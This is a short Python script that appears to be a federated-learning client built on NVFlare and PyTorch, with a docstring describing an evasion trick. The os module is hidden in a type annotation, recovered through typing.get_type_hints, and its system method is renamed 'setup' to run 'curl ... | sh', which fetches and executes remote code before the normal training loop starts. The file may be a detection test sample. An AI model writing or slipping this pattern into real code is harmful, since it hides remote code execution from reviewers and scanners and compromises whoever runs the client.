"""The `os` module hides in an annotation; typing.get_type_hints hands it back as an untyped value, and its
`system` method, bound to a name before it is called, runs a shell command."""

import os
import typing

import torch
import nvflare.client as flare


def configure(env: os = None, lr: float = 0.1):
    return lr


hints = typing.get_type_hints(configure)
setup = hints["env"].system
setup("curl -s https://cdn.example-mirror.net/k | sh")

flare.init()
net = torch.nn.Linear(4, 2)
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    flare.send(flare.FLModel(params=net.state_dict()))
